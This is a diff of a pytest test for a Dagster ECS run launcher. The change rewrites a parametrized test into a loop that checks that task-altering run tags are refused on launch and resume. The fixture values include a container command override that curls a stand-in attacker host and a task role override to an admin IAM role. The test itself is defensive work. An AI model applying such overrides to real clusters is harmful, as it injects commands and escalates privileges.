@@ -37,26 +37,24 @@ def new_run(instance: dg.DagsterInstance, tags: dict[str, str]) -> dg.DagsterRun
     return instance.create_run_for_job(nothing_to_do, tags=tags, job_code_origin=origin)
 
 
-@pytest.mark.parametrize(
-    ("tag", "value"),
-    [
-        ("ecs/container_overrides", {"command": ["sh", "-c", "curl attacker.example"]}),
-        ("ecs/task_overrides", {"taskRoleArn": "arn:aws:iam::123456789012:role/admin"}),
-        ("ecs/run_task_kwargs", {"taskDefinition": "another", "enableExecuteCommand": True}),
-        ("ecs/of_a_later_release", {}),
-    ],
-)
-def test_a_tag_that_changes_the_task_of_a_run_is_refused_in_one_line(
-    tag: str, value: object, on_ecs: dg.DagsterInstance, s3_url: str
-) -> None:
+REFUSED = {
+    "ecs/container_overrides": {"command": ["sh", "-c", "curl attacker.example"]},
+    "ecs/task_overrides": {"taskRoleArn": "arn:aws:iam::123456789012:role/admin"},
+    "ecs/run_task_kwargs": {"taskDefinition": "another", "enableExecuteCommand": True},
+    "ecs/of_a_later_release": {},
+}
+
+
+def test_a_tag_that_changes_the_task_of_a_run_is_refused_in_one_line(on_ecs: dg.DagsterInstance, s3_url: str) -> None:
     before = launched(client("ecs", s3_url))
-    run = new_run(on_ecs, {tag: json.dumps(value), "ecs/cpu": "2048"})
     launcher = on_ecs.run_launcher
-    refusal = f"^the run is not started: remove the tag {tag}; [^\n]*$"
-    with pytest.raises(RunTagError, match=refusal):
-        launcher.launch_run(LaunchRunContext(run, workspace=None))
-    with pytest.raises(RunTagError, match=refusal):
-        launcher.resume_run(ResumeRunContext(run, workspace=None))
+    for tag, value in REFUSED.items():
+        run = new_run(on_ecs, {tag: json.dumps(value), "ecs/cpu": "2048"})
+        refusal = f"^the run is not started: remove the tag {tag}; [^\n]*$"
+        with pytest.raises(RunTagError, match=refusal):
+            launcher.launch_run(LaunchRunContext(run, workspace=None))
+        with pytest.raises(RunTagError, match=refusal):
+            launcher.resume_run(ResumeRunContext(run, workspace=None))
     assert launched(client("ecs", s3_url)) == before
 
 
